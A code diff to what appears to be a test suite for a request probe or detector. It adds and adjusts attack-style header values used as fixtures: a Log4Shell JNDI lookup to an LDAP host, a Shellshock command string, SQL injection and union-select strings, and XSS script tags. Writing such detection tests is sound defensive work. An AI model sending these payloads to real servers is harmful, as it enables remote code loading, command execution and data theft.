@@ -77,7 +77,8 @@ describe('a probe', () => {
   test.each<Given>([
     { agent: `\${jndi:ldap://203.0.113.9/a}` },
     { agent: '() { :;}; /bin/bash -c id' },
-    { agent: 'x%27%20or%201=1%23' },
+    { agent: "x' or 1=1#" },
+    { referer: 'https://x.example/?id=1%20union%20select%202' },
     { referer: 'https://shop.example.com/?q=<script>alert(1)</script>' },
     { referer: 'https://shop.example.com/?q=%3Cscript%3E' },
     { referer: `https://shop.example.com/?q=%24%7Bjndi:ldap://203.0.113.9/a%7D` },
